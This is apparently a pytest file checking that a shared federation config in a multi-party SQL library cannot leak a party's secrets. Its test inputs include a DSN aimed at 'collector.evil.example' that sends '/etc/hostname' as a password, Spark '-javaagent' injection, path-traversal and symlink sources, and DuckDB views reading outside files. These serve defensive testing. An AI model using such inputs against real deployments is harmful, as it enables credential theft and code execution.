"""A shared federation file cannot exfiltrate: a party's private settings come from its own local file.

Every party holds an identical copy of the federation file, so whoever writes it must not be able
to make a party send a password to a host of their choosing, put an environment variable's value
into an error, run code through Spark's configuration, or read a file outside the party's data
directory (sqlmpc.catalog, sqlmpc.local.data, sqlmpc.local.sources).
"""

from __future__ import annotations

import os
import socket
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from sqlmpc import errors
from sqlmpc.catalog import Connection, load_federation, spark_conf_allowed
from sqlmpc.errors import ConfigError, DataFileError, SourceError
from sqlmpc.local.data import open_party_database, open_union_database

SECRET = "sk_live_7Hq2ZSECRETv9Lw3xTOKEN"          # what an environment variable or a file may hold
CANARY = "CANARY-4f1d7c-content-of-a-private-file"


def federation_text(hospital: str = "", source: str = "hospital/patients.parquet", table: str = "") -> str:
    return f"""
[federation]
name = "private-settings"

[parties.hospital]
address = "127.0.0.1:7001"
{hospital}
[parties.hospital.tables.patients]
source = "{source}"
{table}
[parties.hospital.tables.patients.columns]
pid = {{ type = "VARCHAR", role = "key", key_space = "p", unique = true }}
diagnosis = {{ type = "VARCHAR", role = "dimension", domain = ["IBD", "HF"], nullable = false }}

[parties.insurer]
address = "127.0.0.1:7002"

[parties.bureau]
address = "127.0.0.1:7003"
"""


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def refused(path: Path, *secrets: str, **load) -> ConfigError:
    """Loading is refused with a ConfigError that quotes none of the secrets."""
    with pytest.raises(ConfigError) as info:
        load_federation(path, **load)
    err = info.value
    for secret in secrets:
        assert secret not in str(err) and secret not in errors.shareable(err), secret
    return err


@pytest.fixture()
def canary(tmp_path):
    """A private file outside every data directory."""
    path = write(tmp_path / "outside" / "canary.csv", f"pid,diagnosis\n{CANARY},IBD\n")
    return path


# -- connections in the shared file ------------------------------------------------------------

def test_a_password_pointed_at_a_foreign_host_is_refused_at_load(tmp_path):
    """[parties.X.postgresql] in the shared file: the file's author would choose the host and what the
    party sends it as a password (/etc/hostname here).  Refused, with where the setting belongs."""
    text = federation_text('[parties.hospital.postgresql]\ndsn = "host=collector.evil.example user=x"\n'
                           'password_file = "/etc/hostname"\n', source="postgresql", table='table = "t"')
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else SECRET
    err = refused(write(tmp_path / "federation.toml", text), hostname)
    assert err.location == "parties.hospital.postgresql" and err.line == 7
    assert "does not belong in the shared federation file" in str(err)
    assert "move it into party 'hospital''s own local file as [postgresql]" in str(err)


def test_an_environment_variable_named_by_the_shared_file_is_refused_at_load(tmp_path, monkeypatch):
    monkeypatch.setenv("ANY_VAR", SECRET)
    text = federation_text('[parties.hospital.postgresql]\ndsn_env = "ANY_VAR"\n', source="postgresql",
                           table='table = "t"')
    err = refused(write(tmp_path / "federation.toml", text), SECRET)
    assert err.location == "parties.hospital.postgresql" and "own local file" in str(err)


def test_spark_settings_in_the_shared_file_are_refused_at_load(tmp_path):
    text = federation_text('[parties.hospital.spark]\nconf = { "spark.driver.extraJavaOptions" = '
                           f'"-javaagent:/tmp/{SECRET}.jar" }}\n', source="spark", table='table = "t"')
    err = refused(write(tmp_path / "federation.toml", text), SECRET)
    assert err.location == "parties.hospital.spark" and "[spark]" in str(err)


# -- the party's own local file --------------------------------------------------------------------

def test_the_local_file_holds_the_partys_data_directory_and_connections(tmp_path, monkeypatch):
    data = tmp_path / "srv" / "hospital-data"
    data.mkdir(parents=True)
    pq.write_table(pa.table({"pid": ["a", "b"], "diagnosis": ["IBD", "HF"]}), data / "patients.parquet")
    fed_path = write(tmp_path / "shared" / "federation.toml", federation_text(source="patients.parquet"))
    local = write(tmp_path / "etc" / "local.toml",
                  '[policy]\nmin_cell_size = 20\n\n[data]\ndir = "../srv/hospital-data"\n\n'
                  '[postgresql]\ndsn = "postgresql://sqlmpc@db.hospital:5432/clinic"\npassword_file = "pgpass"\n\n'
                  '[spark]\nmaster = "local[1]"\nconf = { "spark.sql.shuffle.partitions" = 4, '
                  '"spark.executor.memory" = "2g", "spark.sql.catalog.lake" = "org.example.Catalog" }\n')
    fed = load_federation(fed_path, local_policy=local, party="hospital")
    hospital = fed.party("hospital")
    assert hospital.data_dir == data.resolve() and fed.policy.min_cell_size == 20
    assert fed.table("hospital", "patients").source == (data / "patients.parquet").resolve()
    assert hospital.connection("postgresql") == Connection(
        "postgresql", dsn="postgresql://sqlmpc@db.hospital:5432/clinic",
        password_file=str((tmp_path / "etc" / "pgpass").resolve()))
    assert dict(hospital.connection("spark").conf)["spark.sql.shuffle.partitions"] == "4"
    # The other parties have none of it; nor does the fingerprint see it.
    assert fed.party("insurer").connections == () and fed.party("insurer").data_dir == fed_path.parent.resolve()
    assert fed.fingerprint == load_federation(fed_path).fingerprint
    assert open_party_database(fed, "hospital").execute("SELECT count(*) FROM hospital.patients").fetchone() == (2,)
    # Without a local file a party's data directory is the federation file's.
    assert load_federation(fed_path).table("hospital", "patients").source == \
        (fed_path.parent / "patients.parquet").resolve()


def test_private_settings_need_the_party_that_loads_them(tmp_path):
    fed_path = write(tmp_path / "federation.toml", federation_text())
    local = write(tmp_path / "local.toml", '[postgresql]\ndsn_env = "PG_DSN"\n')
    err = refused(fed_path, local_policy=local)
    assert err.location == "postgresql" and "say which party loads this file" in str(err)
    err = refused(fed_path, local_policy={"clinic": local})
    assert "party 'clinic', which the federation does not have" in str(err)
    write(tmp_path / "local.toml", '[data]\ndir = "nowhere"\n')
    assert "does not exist" in str(refused(fed_path, local_policy=local, party="hospital"))


def test_a_dsn_in_the_local_file_may_not_hold_a_password(tmp_path):
    fed_path = write(tmp_path / "federation.toml", federation_text())
    for dsn in (f"postgresql://u:{SECRET}@db/clinic", f"host=db password={SECRET}"):
        local = write(tmp_path / "local.toml", f'[postgresql]\ndsn = "{dsn}"\n')
        err = refused(fed_path, SECRET, local_policy=local, party="hospital")
        assert err.location == "postgresql.dsn" and "holds a password" in str(err)


@pytest.mark.parametrize("key", ["spark.driver.extraJavaOptions", "spark.executor.extraJavaOptions", "spark.jars",
                                 "spark.jars.packages", "spark.driver.extraClassPath", "spark.plugins",
                                 "spark.sql.extensions", "spark.sql.queryExecutionListeners",
                                 "spark.sql.hive.metastore.jars", "spark.extraListeners", "spark.hadoop.fs.s3a.impl"])
def test_a_spark_setting_outside_the_allow_list_is_refused_naming_the_key_not_the_value(tmp_path, key):
    fed_path = write(tmp_path / "federation.toml", federation_text())
    local = write(tmp_path / "local.toml", f'[spark]\nconf = {{ "{key}" = "-javaagent:/tmp/{SECRET}.jar" }}\n')
    err = refused(fed_path, SECRET, local_policy=local, party="hospital")
    assert err.location == f"spark.conf.{key}" and f"Spark setting '{key}' is not allowed" in str(err)
    assert not spark_conf_allowed(key)


def test_the_spark_source_refuses_a_setting_outside_the_allow_list_too():
    from sqlmpc.local.sources.engines import SparkSource

    with pytest.raises(ConfigError, match="spark.driver.extraJavaOptions") as info:
        SparkSource("insurer", Connection("spark", conf=(("spark.driver.extraJavaOptions", SECRET),)))
    assert SECRET not in str(info.value)


# -- an environment variable's value never reaches a message ----------------------------------------

def dead_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# A message names where the database is (host, port, database, user: the source's label and the
# driver's "connection to server at ... failed"), never another value of the DSN or the password.
@pytest.mark.parametrize("value", [
    SECRET,                                                                   # not a DSN at all
    f"host=127.0.0.1 port={{port}} application_name={SECRET} sslpassword={SECRET}",  # a key=value DSN
    f"postgresql://sqlmpc@127.0.0.1:{{port}}/clinic?application_name={SECRET}",   # a URI, the host dead
])
def test_an_environment_variable_in_a_dsn_never_appears_in_an_error(value, tmp_path, monkeypatch):
    pytest.importorskip("adbc_driver_postgresql")
    from sqlmpc.catalog import Column, Role, Table
    from sqlmpc.local.sources.engines import PostgresSource

    monkeypatch.setenv("PARTY_DSN", value.replace("{port}", str(dead_port())))
    monkeypatch.setenv("PARTY_PW", "pw-" + SECRET[::-1])
    fed_path = write(tmp_path / "federation.toml", federation_text(source="postgresql", table='table = "t"'))
    local = write(tmp_path / "local.toml", '[postgresql]\ndsn_env = "PARTY_DSN"\npassword_env = "PARTY_PW"\n')
    fed = load_federation(fed_path, local_policy=local, party="hospital")
    source = PostgresSource("hospital", fed.party("hospital").connection("postgresql"))
    table = Table("hospital", "patients", None, "postgresql", (Column("pid", "VARCHAR", Role.KEY, key_space="p"),),
                  source_table="t")
    with pytest.raises(SourceError) as info:
        source.validate(table)
    err = info.value
    for text in (str(err), errors.shareable(err), repr(err.args)):
        assert SECRET not in text and SECRET[::-1] not in text, text
    assert "party 'hospital'" in str(err)
    if value == SECRET:
        assert "the environment variable PARTY_DSN is not a libpq URI" in str(err)


# -- file sources stay under the party's data directory ---------------------------------------------

@pytest.mark.parametrize("case", ["absolute", "dotdot", "symlink", "symlinked directory", "home"])
def test_a_source_outside_the_data_directory_is_refused_at_load(case, tmp_path, canary):
    data = tmp_path / "data"
    data.mkdir()
    source = {"absolute": str(canary), "dotdot": "../outside/canary.csv", "symlink": "hospital/patients.csv",
              "symlinked directory": "linked/canary.csv", "home": "~/canary.csv"}[case]
    if case == "symlink":
        (data / "hospital").mkdir()
        (data / "hospital" / "patients.csv").symlink_to(canary)
    elif case == "symlinked directory":
        (data / "linked").symlink_to(canary.parent, target_is_directory=True)
    fed_path = write(tmp_path / "federation.toml", federation_text(source=source))
    local = write(tmp_path / "local.toml", f'[data]\ndir = "{data}"\n')
    err = refused(fed_path, CANARY, local_policy=local, party="hospital")
    assert err.location == "parties.hospital.tables.patients.source" and err.line == 9
    expected = {"absolute": "is an absolute path", "home": "is an absolute path", "dotdot": "with '..'"}.get(
        case, "resolves (through a symbolic link) outside the party's data directory")
    assert expected in str(err)
    # Without a local file the federation file's directory is the data directory: the same rules.
    if case in ("absolute", "dotdot"):
        refused(fed_path, CANARY)


def test_a_symlink_inside_the_data_directory_is_fine(tmp_path):
    data = tmp_path / "data"
    (data / "2024").mkdir(parents=True)
    pq.write_table(pa.table({"pid": ["a"], "diagnosis": ["HF"]}), data / "2024" / "patients.parquet")
    (data / "current").symlink_to(data / "2024", target_is_directory=True)
    fed_path = write(tmp_path / "shared" / "federation.toml", federation_text(source="current/patients.parquet"))
    local = write(tmp_path / "local.toml", f'[data]\ndir = "{data}"\n')
    fed = load_federation(fed_path, local_policy=local, party="hospital")
    assert fed.table("hospital", "patients").source == (data / "2024" / "patients.parquet").resolve()
    assert fed.fingerprint == load_federation(fed_path).fingerprint     # as written, not as resolved


# -- a .duckdb source runs nothing with access to other files ----------------------------------------

@pytest.mark.parametrize("view", [
    "SELECT pid, diagnosis FROM read_csv('{canary}')",
    "SELECT content AS pid, 'IBD' AS diagnosis FROM read_text('{canary}')",
    "SELECT * FROM (SELECT 'a' AS pid, 'IBD' AS diagnosis) UNION ALL SELECT pid, diagnosis FROM '{canary}'",
])
def test_a_view_in_a_duckdb_source_cannot_read_a_file_outside(view, tmp_path, canary):
    data = tmp_path / "data"
    data.mkdir()
    db = duckdb.connect(str(data / "registry.duckdb"))
    db.execute("CREATE VIEW patients AS " + view.format(canary=canary))
    assert CANARY in str(db.execute("SELECT * FROM patients").fetchall())     # it would read the canary
    db.close()
    fed_path = write(tmp_path / "federation.toml", federation_text(source="registry.duckdb",
                                                                  table='table = "patients"'))
    local = write(tmp_path / "local.toml", f'[data]\ndir = "{data}"\n')
    fed = load_federation(fed_path, local_policy=local, party="hospital")
    for open_db in (lambda: open_party_database(fed, "hospital"), lambda: open_union_database(fed),
                    lambda: open_party_database(fed, "hospital", validate=False)):
        with pytest.raises(DataFileError) as info:
            open_db()
        err = info.value
        assert "file system operations are disabled" in str(err) or "Permission" in str(err), str(err)
        for text in (str(err), errors.shareable(err)):
            assert CANARY not in text


def test_a_duckdb_source_is_read_only_and_its_tables_still_load(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    db = duckdb.connect(str(data / "registry.duckdb"))
    db.execute("CREATE TABLE patients AS SELECT * FROM (VALUES ('a', 'IBD'), ('b', 'HF')) t(pid, diagnosis)")
    db.close()
    before = (data / "registry.duckdb").stat().st_mtime_ns
    fed_path = write(tmp_path / "federation.toml", federation_text(source="data/registry.duckdb",
                                                                  table='table = "patients"'))
    fed = load_federation(fed_path)
    con = open_party_database(fed, "hospital")
    assert con.execute("SELECT pid FROM hospital.patients ORDER BY pid").fetchall() == [("a",), ("b",)]
    from sqlmpc.local.sources import FileSource

    source = FileSource(fed, "hospital")        # loads and seals: the copied rows are gone, the table stays
    assert source.con.execute("SELECT count(*) FROM hospital.patients").fetchone() == (2,)
    schemas = {r[0] for r in source.con.execute("SELECT schema_name FROM information_schema.schemata").fetchall()}
    assert "__sqlmpc_duckdb_sources" not in schemas
    source.close()
    assert (data / "registry.duckdb").stat().st_mtime_ns == before
    assert os.access(data / "registry.duckdb", os.R_OK)
